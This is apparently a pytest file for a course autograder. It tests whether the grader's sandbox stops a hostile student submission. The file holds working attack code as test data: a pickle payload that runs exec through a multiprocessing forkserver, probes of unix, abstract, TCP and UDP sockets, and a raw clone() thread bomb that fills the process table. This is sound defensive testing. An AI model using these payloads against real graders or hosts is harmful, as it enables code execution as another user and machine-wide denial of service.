"""Graded by an ordinary user: student code reaches no socket, no network and no helper process of the grader.

Most instructors grade as themselves, not as root, so the worker keeps their uid and Unix file
permissions stop nothing between the two. These tests run the grader as a non-root user (made
here when the tests run as root) and attack from a submission what such a user owns: the batch's
multiprocessing forkserver (it unpickles what it is sent: code would run as the instructor), a
path-named unix socket (an ssh-agent, D-Bus or docker socket), an abstract unix socket, TCP and
UDP on 127.0.0.1. Each attack is first shown to work outside the sandbox, so that a pass here
means the sandbox stopped it, not that the attack was broken.
"""

from __future__ import annotations

import csv
import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest

from conftest import PROJECT, SOLUTIONS

USER_NAME = "loss-compass-test"
pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the sandbox's layers are Linux's")

# The attack, as a module: `attack()` tries every route and returns what got through.
ATTACK = '''
import os, pickle, socket

TARGETS = {targets!r}
MARKER = {marker!r}


class Payload:
    """Unpickled by a forkserver, this runs code as the grader's user, outside every sandbox layer."""

    def __reduce__(self):
        return (exec, ("open(%r, 'w').write('pwned by a submission')" % MARKER,))


def forkservers():
    try:
        with open("/proc/net/unix") as handle:
            return [line.split()[-1] for line in handle if "pymp-" in line and len(line.split()) >= 8]
    except OSError:
        return []


def to_forkserver(path):
    from multiprocessing import reduction
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    client.connect(path)
    child_r, child_w = os.pipe()
    status_r, status_w = os.pipe()
    alive_r, _ = os.pipe()
    tracker_r, _ = os.pipe()
    reduction.sendfds(client, [child_r, status_w, alive_r, tracker_r])
    os.write(child_w, pickle.dumps(Payload()))
    os.close(child_w)
    client.close()


def attack():
    reached, FAILED[:] = [], []
    routes = [("forkserver " + path, lambda path=path: to_forkserver(path)) for path in forkservers()]
    routes += [
        ("unix", lambda: _send(socket.AF_UNIX, socket.SOCK_STREAM, TARGETS["unix"])),
        ("abstract", lambda: _send(socket.AF_UNIX, socket.SOCK_STREAM, TARGETS["abstract"].encode("latin-1"))),
        ("tcp", lambda: _send(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", TARGETS["tcp"]))),
        ("udp", lambda: _send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", TARGETS["udp"]))),
    ]
    for name, route in routes:
        try:
            route()
            reached.append(name)
        except Exception as error:
            FAILED.append("%s: %r" % (name, error))
    return reached


FAILED = []


def _send(family, kind, address):
    with socket.socket(family, kind) as client:
        client.settimeout(2)
        if kind == socket.SOCK_DGRAM:
            client.sendto(b"hello from a submission", address)
        else:
            client.connect(address)
            client.sendall(b"hello from a submission")
'''


class Listeners:
    """Sockets on this machine that record whatever reaches them, standing in for the user's services."""

    def __init__(self, folder: Path) -> None:
        self.received: list[str] = []
        self._sockets: list[tuple[str, socket.socket]] = []
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix.bind(str(folder / "agent.sock"))
        os.chmod(folder / "agent.sock", 0o777)
        abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract_name = f"\0loss-compass-test-{os.getpid()}-{time.monotonic_ns()}"
        abstract.bind(self.abstract_name.encode("latin-1"))
        tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        tcp.bind(("127.0.0.1", 0))
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("127.0.0.1", 0))
        for name, sock in (("unix", unix), ("abstract", abstract), ("tcp", tcp)):
            sock.listen(8)
            self._sockets.append((name, sock))
        self._sockets.append(("udp", udp))
        self.targets = {"unix": str(folder / "agent.sock"), "abstract": self.abstract_name,
                        "tcp": tcp.getsockname()[1], "udp": udp.getsockname()[1]}
        self._stop = False
        self._threads = [threading.Thread(target=self._serve, args=item, daemon=True) for item in self._sockets]
        for thread in self._threads:
            thread.start()

    def _serve(self, name: str, sock: socket.socket) -> None:
        sock.settimeout(0.2)
        while not self._stop:
            try:
                if name == "udp":
                    sock.recvfrom(1024)
                else:
                    connection, _ = sock.accept()
                    with connection:
                        connection.settimeout(1)
                        connection.recv(64)  # closing at once would break the sender's pipe
            except OSError:
                continue
            self.received.append(name)

    def close(self) -> None:
        self._stop = True
        for thread in self._threads:
            thread.join(timeout=2)
        for _, sock in self._sockets:
            sock.close()


@pytest.fixture(scope="module")
def user() -> tuple[int, int]:
    """An ordinary user's uid and gid: ours when not root, else a system user made for these tests."""
    if os.geteuid() != 0:
        return os.getuid(), os.getgid()
    try:
        entry = pwd.getpwnam(USER_NAME)
    except KeyError:
        useradd = shutil.which("useradd")
        if useradd is None:
            pytest.skip("running as root with no useradd: cannot make the ordinary user these tests need")
        subprocess.run([useradd, "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", USER_NAME],
                       check=True, capture_output=True)
        entry = pwd.getpwnam(USER_NAME)
    return entry.pw_uid, entry.pw_gid


def _shared_folder(prefix: str, user: tuple[int, int]) -> Path:
    """A folder outside pytest's own (which other users cannot enter), owned by the test user."""
    folder = Path(tempfile.mkdtemp(prefix=prefix))
    os.chmod(folder, 0o755)
    os.chown(folder, *user)
    return folder


def _as_user(user: tuple[int, int], command: list[str], **kwargs) -> subprocess.CompletedProcess:
    if os.geteuid() != 0:
        return subprocess.run(command, capture_output=True, text=True, timeout=300, **kwargs)
    return subprocess.run(command, capture_output=True, text=True, timeout=300, user=user[0], group=user[1],
                          extra_groups=[], **kwargs)


@pytest.fixture(scope="module")
def course(user) -> Path:
    """The project where the test user can read it: this checkout, or a copy when it sits in a private
    folder (a clone made in `mktemp -d`, mode 0700)."""
    readable = _as_user(user, ["/bin/cat", str(PROJECT / "grader" / "__init__.py")], cwd="/")
    if readable.returncode == 0:
        yield PROJECT
        return
    folder = Path(tempfile.mkdtemp(prefix="loss-compass-user-course-"))
    os.chmod(folder, 0o755)
    copy = folder / "course"
    copy.mkdir()
    for name in ("grader", "solutions", "exercises"):
        shutil.copytree(PROJECT / name, copy / name, ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("pyproject.toml", "README.md"):
        shutil.copyfile(PROJECT / name, copy / name)
    for path in [folder, *folder.rglob("*")]:
        os.chmod(path, 0o755 if path.is_dir() else 0o644)
    yield copy
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture(scope="module")
def python(user, course) -> str:
    """A Python with the grader that the test user can run (root's interpreter may sit where it cannot look)."""
    environment = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": "/tmp"}
    probe = [sys.executable, "-c", "import numpy, grader"]
    try:
        if course == PROJECT and _as_user(user, probe, cwd=course, env=environment).returncode == 0:
            yield sys.executable
            return
    except PermissionError:
        pass  # e.g. pyenv under /root
    base = shutil.which("python3", path="/usr/local/bin:/usr/bin:/bin")
    if base is None:
        pytest.skip("the test user cannot run this Python and the system has no python3 of its own")
    folder = Path(tempfile.mkdtemp(prefix="loss-compass-user-venv-"))
    os.chmod(folder, 0o755)
    made = subprocess.run([base, "-m", "venv", str(folder / "venv")], capture_output=True, text=True)
    if made.returncode != 0:
        pytest.skip(f"the test user cannot run this Python, and {base} cannot make a venv: {made.stderr[-300:]}")
    installed = subprocess.run([str(folder / "venv" / "bin" / "python"), "-m", "pip", "install", "--quiet",
                                "--disable-pip-version-check", "-e", str(course)], capture_output=True, text=True)
    assert installed.returncode == 0, installed.stderr[-2000:]
    python = str(folder / "venv" / "bin" / "python")
    probed = _as_user(user, [python, *probe[1:]], cwd=course, env=environment)
    assert probed.returncode == 0, probed.stderr[-2000:]
    yield python
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def scene(user, tmp_path):
    """Listeners, a marker path only a successful attack creates, and the attack module aimed at both."""
    folder = _shared_folder("loss-compass-attack-", user)
    listeners = Listeners(folder)
    marker = folder / "PWNED"
    source = ATTACK.format(targets=listeners.targets, marker=str(marker))
    yield folder, listeners, marker, source
    listeners.close()
    shutil.rmtree(folder, ignore_errors=True)


def _environment(folder: Path) -> dict[str, str]:
    return {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(folder), "TMPDIR": str(folder),
            "LANG": "C.UTF-8"}


def _wait_for(condition, seconds: float = 5.0) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.05)
    return condition()


def test_the_attack_works_outside_the_sandbox(user, python, scene):
    """The control: run unsandboxed by the same user, every route gets through, the forkserver one included."""
    folder, listeners, marker, source = scene
    (folder / "attack.py").write_text(source)
    (folder / "control.py").write_text(textwrap.dedent("""
        import json, multiprocessing, sys
        sys.path.insert(0, sys.argv[1])
        import attack

        def run(queue):
            queue.put([attack.attack(), attack.FAILED])

        if __name__ == "__main__":
            context = multiprocessing.get_context("forkserver")
            queue = context.Queue()
            process = context.Process(target=run, args=(queue,))
            process.start()
            print(json.dumps(queue.get(timeout=60)))
            process.join()
    """))
    completed = _as_user(user, [python, str(folder / "control.py"), str(folder)], cwd=folder,
                         env=_environment(folder))
    assert completed.returncode == 0, completed.stderr
    reached, failed = json.loads(completed.stdout.strip().splitlines()[-1])
    assert {"unix", "abstract", "tcp", "udp"} <= set(reached), failed
    assert any(name.startswith("forkserver ") for name in reached)
    assert _wait_for(marker.exists), "the forkserver payload should have run as the user"
    assert _wait_for(lambda: {"unix", "abstract", "tcp", "udp"} <= set(listeners.received))


def _class_folder(folder: Path, source: str, user: tuple[int, int]) -> Path:
    """A class of two: an honest student with the reference solutions, and one whose ex01 attacks at import."""
    class_dir = folder / "class"
    for name in ("honest", "mallory"):
        (class_dir / name).mkdir(parents=True)
        for path in SOLUTIONS.glob("ex[0-9][0-9]_*.py"):
            shutil.copyfile(path, class_dir / name / path.name)
    (class_dir / "mallory" / "ex01_mse.py").write_text(
        source + textwrap.dedent("""
            REACHED = attack()

            def mse(y_pred, y_true):
                attack()
                return float(len(REACHED))
        """))
    for path in [class_dir, *class_dir.rglob("*")]:
        os.chown(path, *user)
    return class_dir


def test_batch_grading_as_an_ordinary_user_stops_every_route(user, python, course, scene):
    folder, listeners, marker, source = scene
    class_dir = _class_folder(folder, source, user)
    out = folder / "grades"
    completed = _as_user(user, [python, "-m", "grader", "grade-all", str(class_dir), "-o", str(out), "--jobs", "2"],
                         cwd=course, env=_environment(folder))
    assert completed.returncode == 0, completed.stderr[-3000:]
    time.sleep(0.5)  # a payload that got through would have written by now
    assert not marker.exists(), "the forkserver ran the submission's pickle"
    assert listeners.received == []
    rows = {row["submission"]: row for row in csv.DictReader((out / "grades.csv").open(encoding="utf-8"))}
    assert rows["honest"]["status"] == "graded"
    assert float(rows["mallory"]["ex01_mse"]) < float(rows["honest"]["ex01_mse"])
    for exercise in ("ex02_mae", "ex05_cross_entropy", "ex09_language_model"):
        assert rows["mallory"][exercise] == rows["honest"][exercise]
    report = json.loads((out / "reports" / "mallory.json").read_text(encoding="utf-8"))
    layers = " ".join(report["limits"]["isolation"])
    assert "seccomp" in layers and "network namespace" in layers, report["limits"]


def test_a_single_grade_as_an_ordinary_user_has_no_network(user, python, course, scene):
    folder, listeners, marker, source = scene
    class_dir = _class_folder(folder, source, user)
    completed = _as_user(user, [python, "-m", "grader", "grade", str(class_dir / "mallory"), "--format", "json"],
                         cwd=course, env=_environment(folder))
    assert completed.returncode == 0, completed.stderr[-3000:]
    report = json.loads(completed.stdout)
    time.sleep(0.5)
    assert listeners.received == [] and not marker.exists()
    assert "the grader is not root, so the worker runs as the same user" in report["limits"]["isolation"]
    assert report["limits"]["warnings"] == []


TASK_BOMB = '''
import ctypes, mmap
import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
libc.clone.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p]
STACK, WANTED = 16384, 1000
_region = mmap.mmap(-1, STACK * WANTED, prot=mmap.PROT_READ | mmap.PROT_WRITE)
_base = ctypes.addressof(ctypes.c_char.from_buffer(_region))
TASKS = 0
for _index in range(WANTED):  # threads (CLONE_VM | FS | FILES | SIGHAND | THREAD) that run libc's pause()
    if libc.clone(ctypes.cast(libc.pause, ctypes.c_void_p), ctypes.c_void_p(_base + STACK * (_index + 1) - 64),
                  0x10F00, None) < 0:
        break
    TASKS += 1


def mse(y_pred, y_true):
    y_pred, y_true = np.asarray(y_pred, dtype=np.float64), np.asarray(y_true, dtype=np.float64)
    if y_pred.shape != y_true.shape or y_pred.size == 0:
        raise ValueError("shapes differ or empty")
    # the attack reports on itself: a right value only if the task limit held
    return float(np.mean((y_pred - y_true) ** 2)) if TASKS < 200 else -float(TASKS)
'''


def test_an_exercise_cannot_fill_the_pid_table_as_an_ordinary_user(user, python, course, scene):
    """Red team: as root the worker had RLIMIT_NPROC (uid 65534), as any other user nothing bounded its tasks.

    Threads made with raw clone() and 16 KiB stacks fit 65,536 times in the 1 GiB memory limit, twice
    this machine's pid_max: 1000 were made here (2000 in a probe) and every fork on the machine could
    then fail. In the server's own user namespace RLIMIT_NPROC counts only the sandbox's tasks.
    """
    folder = scene[0]
    submission = folder / "class" / "mallory"
    submission.mkdir(parents=True)
    (submission / "ex01_mse.py").write_text(TASK_BOMB)
    for path in [folder / "class", submission, *submission.iterdir()]:
        os.chown(path, *user)
    completed = _as_user(user, [python, "-m", "grader", "grade", str(submission), "--format", "json",
                                "--timeout", "5"], cwd=course, env=_environment(folder))
    assert completed.returncode == 0, completed.stderr[-3000:]
    victim = next(item for item in json.loads(completed.stdout)["exercises"] if item["id"] == "ex01_mse")
    worked = next(check for check in victim["checks"] if check["name"] == "worked_example")
    assert worked["passed"], worked["message"]
